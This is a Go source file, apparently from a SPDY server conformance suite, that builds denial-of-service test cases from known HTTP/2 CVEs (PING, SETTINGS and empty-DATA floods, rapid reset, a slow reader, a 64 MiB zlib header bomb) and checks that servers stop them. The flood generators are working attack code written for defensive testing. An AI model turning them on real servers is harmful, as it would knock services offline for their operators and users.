package conform

import (
	"encoding/binary"
	"errors"
	"fmt"
	"os"
	"strings"
	"time"

	"github.com/spdylab/spdylab/spdy"
)

// dosCases are the attacks that took HTTP/2 servers down (2019, 2023, 2024)
// in their SPDY form. Each runs under runDoS: besides its own rule, the
// server's memory must stay bounded (when measured) and a fresh connection
// must be served. A server passes a flood by stopping the attacker or, where
// answering is what the draft asks and costs nothing lasting, by keeping up.
var dosCases = []Case{
	{ID: "ping-flood", Class: "ping-flood", Section: "2.6.5",
		Title:    "a PING flood (CVE-2019-9512) is echoed or stopped, never queued without bound",
		Expected: "every PING of the flood echoed, or GOAWAY/close; memory bounded; a fresh connection served",
		Draft2:   Draft2{Section: "PING"},
		run: func(p *peer, o *Options) (bool, error) {
			var b []byte
			for i := 0; i < o.flood(); i++ {
				b = append(b, p.ping(uint32(2*i+1))...)
			}
			return p.survive(fmt.Sprintf("%d PINGs", o.flood()), b, 0)
		}},
	{ID: "settings-flood", Class: "settings-flood", Section: "2.6.4",
		Title:    "a SETTINGS flood (CVE-2019-9515) is absorbed or stopped",
		Expected: "the PING after the flood echoed, or GOAWAY/close; memory bounded; a fresh connection served",
		Draft2:   Draft2{Section: "SETTINGS"},
		run: func(p *peer, o *Options) (bool, error) {
			// MAX_CONCURRENT_STREAMS 100: a value every server takes, in
			// the version's own encoding of the entry (draft 2's id is
			// little-endian), built by the framer.
			p.bw.Reset()
			s := &spdy.SettingsFrame{Entries: []spdy.Setting{{ID: spdy.SettingMaxConcurrentStreams, Value: 100}}}
			for i := 0; i < o.flood(); i++ {
				if err := p.fr.WriteFrame(s); err != nil {
					return false, err
				}
			}
			if err := p.fr.Flush(); err != nil {
				return false, err
			}
			b := append([]byte(nil), p.bw.Bytes()...)
			return p.survive(fmt.Sprintf("%d SETTINGS", o.flood()), b, 0)
		}},
	{ID: "empty-frame-flood", Class: "empty-frame-flood", Section: "2.2.2",
		Title:    "a flood of empty DATA frames (CVE-2019-9518) on an open stream is absorbed or stopped",
		Expected: "the PING after the flood echoed, or RST_STREAM stream=1, GOAWAY or close; memory bounded; a fresh connection served",
		Draft2:   Draft2{Section: "Data frames"},
		run: func(p *peer, o *Options) (bool, error) {
			b := p.synStream(1, 0, p.block(p.request("POST", o.Path)))
			empty := []byte{0, 0, 0, 1, 0, 0, 0, 0} // stream 1, no flags, length 0
			for i := 0; i < o.flood(); i++ {
				b = append(b, empty...)
			}
			return p.survive(fmt.Sprintf("%d empty DATA frames", o.flood()), b, 1)
		}},
	{ID: "rapid-reset", Class: "rapid-reset", Section: "2.6.3",
		Title:    "streams opened and reset at once (rapid reset, CVE-2023-44487) get the session stopped",
		Expected: "GOAWAY or close before the PING after the flood is echoed; memory bounded; a fresh connection served",
		Draft2:   Draft2{Section: "RST_STREAM"},
		run:      rapidReset},
	{ID: "slow-reader", Class: "slow-reader", Section: "2.6.5", rcvBuf: 4096,
		Title: "a client that never reads while provoking PING echoes (the queue behind CVE-2019-9512 and -9515) does not grow the server's control queue without bound",
		Expected: "GOAWAY or close, or the server stops reading, before all the PINGs (" + fmt.Sprint(DefaultSlowReaderBytes>>20) +
			" MiB by default) are taken in; memory bounded; a fresh connection served",
		Draft2: Draft2{Section: "PING"},
		run:    slowReader},
	{ID: "header-inflate", Class: "header-accumulation", Section: "2.6.10",
		Title:    "a header block that inflates to 64 MiB (the SPDY analogue of the CONTINUATION flood, CVE-2024-27316) is refused, not buffered",
		Expected: "RST_STREAM stream=1, GOAWAY or close, no SYN_REPLY; memory bounded; a fresh connection served",
		Draft2:   Draft2{Section: "Name/Value header block format"},
		run:      headerInflate},
}

// rapidReset opens flood streams, each a complete GET reset at once with
// CANCEL, so the server's concurrency limit never bites while each stream
// still costs it a request. Answering every stream is not enough here: the
// attacker's cost is one frame pair, the server's a request, so a server
// passes only by ending the session.
func rapidReset(p *peer, o *Options) (bool, error) {
	var b []byte
	n := o.flood()
	for i := 0; i < n; i++ {
		id := uint32(2*i + 1)
		b = append(b, p.synStream(id, spdy.FlagFin, p.block(p.request("GET", o.Path)))...)
		b = append(b, p.control(3, 0, binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, id), uint32(spdy.RstCancel)))...)
	}
	werr := p.writeAsync(append(b, p.ping(lastPing)...))
	out, err := p.floodEnd(0, isPing(lastPing))
	if err != nil {
		return false, err
	}
	switch out {
	case stopped:
		p.reaction = "stopped: " + p.last()
		return true, nil
	case keptUp:
		p.reaction = fmt.Sprintf("kept up: served or dropped all %d reset streams without ending the session", n)
	default:
		p.reaction = "silent: no GOAWAY, no close, no echo of the PING after the flood"
		if e := <-werr; e != nil {
			p.reaction += " (flood not written: " + e.Error() + ")"
		}
	}
	return false, nil
}

// DefaultSlowReaderBytes is how many bytes of PINGs the slow reader
// offers: eight times the largest loopback send buffer (tcp_wmem's default
// maximum, 4 MiB), so a server that reads it all must hold most echoes
// itself.
const DefaultSlowReaderBytes = 32 << 20

func (o *Options) slowReaderBytes() int {
	if o.SlowReaderBytes <= 0 {
		return DefaultSlowReaderBytes
	}
	return o.SlowReaderBytes
}

// slowReader sends PINGs and reads nothing. A server passes by ending the
// session (GOAWAY or close, seen when the reader finally reads) or by no
// longer reading (the writes stall: TCP backpressure bounds its queue); it
// fails by taking in every PING while its echoes have nowhere to go.
func slowReader(p *peer, o *Options) (bool, error) {
	chunk := make([]byte, 0, 64<<10)
	id := uint32(1)
	sent := 0
	var werr error
	for sent < o.slowReaderBytes() {
		chunk = chunk[:0]
		for len(chunk)+12 <= cap(chunk) {
			chunk = append(chunk, p.ping(id)...)
			id = (id + 2) & 0x7fffffff
		}
		p.conn.SetWriteDeadline(time.Now().Add(p.wait))
		n, err := p.conn.Write(chunk)
		sent += n
		if err != nil {
			werr = err
			break
		}
	}
	mib := float64(sent) / (1 << 20)
	if werr != nil && !errors.Is(werr, os.ErrDeadlineExceeded) && !isClosed(werr) {
		return false, werr
	}
	// Now read: the GOAWAY (if any) is behind the echoes the kernels hold.
	// Every PING echoed means the server took them all in and kept the
	// echoes it could not write.
	pings, echoed := sent/12, 0
	out, err := p.floodEnd(0, func(f spdy.Frame) bool {
		if _, ok := f.(*spdy.PingFrame); ok {
			echoed++
		}
		return echoed >= pings
	})
	if err != nil {
		return false, err
	}
	switch {
	case out == stopped:
		p.reaction = fmt.Sprintf("stopped after taking %.1f MiB of PINGs: %s", mib, p.last())
		return true, nil
	case werr != nil && errors.Is(werr, os.ErrDeadlineExceeded):
		p.reaction = fmt.Sprintf("backpressure: the server stopped reading after %.1f MiB of PINGs (and sent no GOAWAY)", mib)
		return true, nil
	case werr != nil:
		p.reaction = fmt.Sprintf("stopped: the connection closed after %.1f MiB of PINGs", mib)
		return true, nil
	}
	p.reaction = fmt.Sprintf("kept reading: took in all %.0f MiB of PINGs from a client reading none of the echoes, no GOAWAY", mib)
	return false, nil
}

// headerInflate sends one SYN_STREAM whose header block inflates to 64 MiB
// (1024 values of 65535 bytes, which draft 2's 16-bit lengths allow too)
// from about 64 KiB on the wire. SPDY has no CONTINUATION: a block is one
// frame, but zlib lets one small frame stand for an unbounded block, which
// a server must refuse as it inflates rather than buffer. The block is
// compressed as it is built, so the raw 64 MiB never exist here either.
func headerInflate(p *peer, o *Options) (bool, error) {
	const pairs, size = 1024, 0xffff
	kv := p.requestKV("GET", o.Path)
	p.zbuf.Reset()
	head := p.pairs(kv...)
	p.zw.Write(p.length(len(kv)/2 + pairs))
	p.zw.Write(head[len(p.length(0)):]) // the request's pairs, without their count
	value := []byte(strings.Repeat("v", size))
	for i := 0; i < pairs; i++ {
		name := fmt.Sprintf("x-conform-%04d", i)
		p.zw.Write(p.length(len(name)))
		p.zw.Write([]byte(name))
		p.zw.Write(p.length(size))
		p.zw.Write(value)
	}
	p.zw.Flush()
	block := append([]byte(nil), p.zbuf.Bytes()...)
	if err := p.sendRaw(p.synStream(1, spdy.FlagFin, block)); err != nil {
		if isClosed(err) {
			p.reaction = "stopped: the connection closed while the block was sent"
			return true, nil
		}
		return false, err
	}
	ok, err := p.await(refused(1))
	if errors.Is(err, errClosed) {
		p.reaction = "stopped: " + p.last()
		return true, nil
	}
	if ok {
		p.reaction = "stopped: " + p.last()
	} else if err == nil {
		p.reaction = "accepted: the 64 MiB header block was answered"
	}
	return ok, err
}
